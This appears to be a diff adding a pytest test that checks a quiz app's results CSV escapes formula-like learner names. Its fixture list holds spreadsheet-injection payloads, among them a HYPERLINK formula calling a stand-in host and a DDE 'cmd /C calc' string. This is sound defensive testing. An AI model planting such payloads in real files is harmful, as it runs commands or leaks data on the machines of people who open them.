@@ -10,6 +10,7 @@ import pytest
 import sqlalchemy as sa
 
 from quizapp.models import Attempt, GradeChange, Period, Quiz, QuizItem, Response, User, db
+from quizapp.views.instructor import spreadsheet_cell
 from tests.conftest import csrf_from, post_form
 from tests.test_interchange import assert_gift_grammar
 
@@ -259,6 +260,31 @@ def test_instructor_override_is_recorded(instructor, make_learner):
     assert (change.old_points, change.new_points, change.instructor_id) == (0, 2, teacher_user.id)
     assert db.session.get(Attempt, attempt.id).score == 2
     assert "Gromiko" in teacher.get(page).get_data(as_text=True)
+
+
+FORMULA_NAMES = ['=HYPERLINK("http://evil.example/?x=a@b.c","Click")', "+1+cmd|' /C calc'!A0@example.org",
+                 "-2+3@example.org", "@SUM(1+1)@example.org", "\t=1+1@example.org", "\r=1+1@example.org"]
+
+
+def test_results_csv_shows_formula_like_names_as_text(instructor):
+    """A spreadsheet opening the results must not run what a learner typed as their account name."""
+    owner, teacher = instructor
+    quiz = Quiz(owner_id=owner.id, title="CSV", join_code="CSV23456", max_attempts=None)
+    quiz.items = [QuizItem(position=0, format="year", prompt="When?", answers=["1948"], points=1)]
+    db.session.add(quiz)
+    at = dt.datetime(2026, 3, 2, 9, 0, tzinfo=dt.UTC)
+    for email in FORMULA_NAMES:
+        user = User(email=email, password_hash="unused")
+        db.session.add(user)
+        db.session.flush()
+        db.session.add(Attempt(quiz_id=quiz.id, user_id=user.id, number=1, started_at=at, submitted_at=at,
+                               layout={"order": [], "choices": {}}, score=1, max_score=1))
+    db.session.commit()
+    rows = list(csv.reader(io.StringIO(teacher.get(f"/teach/quizzes/{quiz.id}/results.csv").get_data(as_text=True))))
+    assert sorted(row[0] for row in rows[1:]) == sorted("'" + name for name in FORMULA_NAMES)
+    cells = [cell for row in rows for cell in row]
+    assert not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r")) and not re.fullmatch(r"-?[\d.]+", c)]
+    assert spreadsheet_cell("-1.5") == "-1.5" and spreadsheet_cell("-1+1") == "'-1+1"  # numbers stay numbers
 
 
 # Cheating and access rules
